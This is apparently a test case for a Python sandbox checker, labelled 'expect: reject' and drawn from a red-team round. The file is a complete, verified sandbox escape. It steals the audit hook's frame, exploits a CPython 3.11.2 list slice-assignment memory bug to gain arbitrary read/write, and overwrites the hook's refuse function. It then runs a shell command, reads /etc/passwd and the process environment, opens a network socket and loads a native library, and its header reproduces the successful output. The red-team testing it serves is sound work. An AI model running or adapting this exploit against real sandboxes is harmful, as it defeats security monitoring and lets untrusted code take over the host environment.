# expect: reject memory
# verified: reaches its goal in the sandbox image with the runtime wall on (runtime wall red team, round 5, ok_04_list_slice_oob_disable_hook_full_escape.py; the checker also refuses it for other rules: sys.modules, frames, open)
# line: 132
# family: memory corruption reachable without ctypes + state the hook depends on
# goal: ALL: run a process (`id`), read /etc/passwd, print the process environment
#       (/proc/self/environ: HOSTNAME, HOME from the engine), open an AF_INET socket,
#       load a native library (_ctypes), and disable the audit hook itself.
# Mechanism (chains ok_02 and ok_03, then):
#  1. ok_02/ok_03 give the hook's frame, whose locals hold K, the hook's constant tuple
#     (refuse, getframe, ...).
#  2. CPython 3.11.2 (the image's Debian python3.11) has gh-120384: list_ass_subscript
#     computes an extended slice's length BEFORE it converts the value with
#     PySequence_Fast, which runs the value's iterator. The iterator frees a 96-byte bytes
#     object next to another one (id() tells adjacency; builtins.id is allowed), clears the
#     list and extends it by 12 items: its new item array takes the hole, and the one-slot
#     write lst[13:14:2] = <iterator yielding bytearray> lands on the neighbour's ob_type.
#     That bytes object is now a bytearray whose ob_bytes/ob_start are its own data (NULL,
#     id(R)): a 56-byte window on a real bytearray R's header, set to ob_start=0,
#     ob_size=2**62: R[addr] reads and writes the whole address space. No audit event.
#  3. K[0] (the hook's refuse) is overwritten with a function that returns: every branch
#     of the hook ends in refuse(...), so every event is now allowed. The audit hook is
#     still installed but decides nothing.
#  4. os.system("id"), open("/etc/passwd"), /proc/self/environ, socket(AF_INET) (socket is
#     preloaded by the `import asyncio` line), and _ctypes.so loaded by
#     _imp.create_dynamic: the real one was replaced and freed, so a real _imp builtin of
#     the same METH_FASTCALL kind (_fix_co_filename) is pointed at create_dynamic's
#     PyMethodDef, found in _imp's method table.
# Ends with os._exit(0): no teardown of the forged objects. Three further runs: all ok.
# Under plain python3 3.11.2 steps 2 and 4 work as shown (step 1/3 need the hook).
#
# Exact output of: SAFE_EXEC_IMAGE=safe-exec-sandbox:lazywall build/sb-run --full THIS_FILE
#   status: ok   exit_code: 0   
#   duration 84 ms, cpu 42 ms, memory peak 25408 KiB, fresh container
#   --- stdout (627 bytes)
#   tries 200 frames 7 ['__del__', 'hook', '<module>', 'run_user_code', 'runner', 'main', '<module>']
#   arbitrary read/write: True
#   hook K[0] is now <function noop at 0x7f45f3508220>
#   uid=10001(sandbox) gid=10001(sandbox) groups=10001(sandbox)
#   /etc/passwd: root:x:0:0:root:/root:/bin/bash
#   environ: [b'PATH=/usr/local/bin:/usr/bin:/bin', b'HOSTNAME=5ce798cd971f', b'LANG=C.UTF-8', b'HOME=/home/sandbox', b'']
#   AF_INET socket: <socket.socket fd=3, family=2, type=1, proto=0, laddr=('0.0.0.0', 0)>
#   native library: <module '_ctypes' from '/usr/lib/python3.11/lib-dynload/_ctypes.cpython-311-x86_64-linux-gnu.so'> <built-in function dlopen>
#   --- stderr (0 bytes)
import sys, threading, dataclasses
import asyncio                        # only so that socket is preloaded (wall_extend)
inspect = sys.modules['inspect']
gc = sys.modules['gc']

# 1. Any function's __code__, read by a trusted reader (inspect._signature_is_functionlike)
#    and handed to our __instancecheck__ through inspect's module global `types`.
got = []
class Grab:
    def __instancecheck__(self, obj):
        got.append(obj)
        return False
class FakeTypes:
    CodeType = Grab()
real_types = inspect.types
def grab_code(fn):
    inspect.types = FakeTypes
    try:
        inspect._signature_is_functionlike(fn)
    finally:
        inspect.types = real_types
    return got.pop()
K = [c for c in grab_code(gc.enable).co_consts if type(c) is tuple][0]
real_enable = K[2]            # the hook's own gc.enable, not the locked wrapper

# 2. A finalizer that runs inside the hook (level 1): sys._getframe and f_code pass there.
G = {"sys": sys, "frames": [], "ValueError": ValueError}
fin = dataclasses._create_fn("__del__", ("self",), [
    "if frames: return",
    "try:",
    "    f = sys._getframe(0)",
    "except ValueError:",
    "    return",
    "while f is not None:",
    "    c = f.f_code",
    "    frames.append((f, c.co_name, c.co_filename, c, f.f_locals))",
    "    f = f.f_back",
    ], globals=G)
class Cyc:
    __del__ = fin
stop = []
def flip():
    while not stop:
        real_enable()
        gc.set_threshold(1)
sys.setswitchinterval(1e-6)
t = threading.Thread(target=flip)
t.start()
gc.disable()    # the wrapper: the hook no longer turns the collector back on on exit
P = "/usr/lib/python3.11/encodings/nonexistent/x/y"   # open: lstat loop inside the hook
for i in range(20000):
    for _ in range(5):
        a = Cyc(); a.me = a; del a
    try:
        open(P)
    except OSError:
        pass
    if G["frames"]:
        break
stop.append(1)
t.join()
sys.setswitchinterval(0.005)
gc.set_threshold(700)
fr = G["frames"]
print("tries", i + 1, "frames", len(fr), [x[1] for x in fr])
hook_locals = [loc for f, name, fn, c, loc in fr if name == "hook"][0]
def make_rw():
    L = 56
    R = bytearray(64)
    addrR = id(R)
    payload = (0).to_bytes(8, 'little') + addrR.to_bytes(8, 'little') + bytes(L - 16)
    for attempt in range(50):
        objs = [bytes([i & 255]) + payload[1:] if False else (payload[:-1] + bytes([i % 251])) for i in range(400)]
        # find k: block k and k+1 adjacent, 96 apart
        ks = [k for k in range(200, 398) if id(objs[k]) + 96 == id(objs[k + 1])]
        if not ks:
            continue
        k = ks[0]
        victim = objs[k + 1]
        holder = {}
        lst = [None] * 16
        six = [None] * 12
        def gen():
            yield bytearray
            del objs[k]            # free block k (a hole in a full pool)
            lst.clear()            # old item array (128 bytes) freed
            lst.extend(six)        # new 96-byte item array: the hole
        try:
            lst[13:14:2] = gen()   # slicelength 1, computed before gen runs
        except Exception as e:
            print("exc", e)
        if type(victim) is bytearray:
            FB = victim
            FB[16:24] = (1 << 62).to_bytes(8, 'little')   # R.ob_size
            FB[40:48] = (0).to_bytes(8, 'little')         # R.ob_start
            holder['keep'] = (objs, FB)
            return R, holder
        else:
            print("miss", attempt)
    return None, None

# 4. Memory: list_ass_subscript (CPython 3.11.2, gh-120384) computes an extended slice's
#    length before it iterates the value; the value's iterator swaps the list's item array
#    for a 96-byte one placed in a freed hole just before a bytes object, and the one-slot
#    write lst[13:14:2] lands on that bytes object's ob_type: it becomes a bytearray whose
#    ob_start is our pointer (its data), a window on a real bytearray R's header.
R, keep = make_rw()
print("arbitrary read/write:", R is not None)
HK = hook_locals["K"]                 # the hook's constant tuple; K[0] is refuse
def noop(*args):
    return None
keep["noop"] = noop
slot = id(HK) + 24                    # PyTupleObject: refcnt, type, size, items[]
R[slot:slot + 8] = id(noop).to_bytes(8, "little")
print("hook K[0] is now", HK[0])
os = sys.modules["os"]
sys.stdout.flush()
os.system("id")
with open("/etc/passwd") as f:
    print("/etc/passwd:", f.readline().strip())
with open("/proc/self/environ", "rb") as f:
    print("environ:", f.read().split(b"\0")[:6])
socket = sys.modules["socket"]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
print("AF_INET socket:", s)
# Native library: _imp.create_dynamic was replaced by a refusing stub and the original
# freed; point a real _imp builtin (same METH_FASTCALL kind) at create_dynamic's
# PyMethodDef, found next to its own in _imp's method table.
_imp = sys.modules["_imp"]
donor = _imp._fix_co_filename
rd = lambda a: int.from_bytes(R[a:a + 8], "little")
e = rd(id(_imp.extension_suffixes) + 16)     # first entry of imp_methods[]
target = None
while rd(e):                                  # up to the {NULL} sentinel
    name = rd(e)
    if bytes(R[name:name + 15]) == b"create_dynamic\0":
        target = e
        break
    e += 32                                   # sizeof(PyMethodDef)
R[id(donor) + 16:id(donor) + 24] = target.to_bytes(8, "little")
types = sys.modules["types"]
spec = types.SimpleNamespace(name="_ctypes", origin="/usr/lib/python3.11/lib-dynload/_ctypes.cpython-311-x86_64-linux-gnu.so")
_ctypes = donor(spec)
print("native library:", _ctypes, _ctypes.dlopen)
sys.stdout.flush()
os._exit(0)                           # no teardown of the forged objects
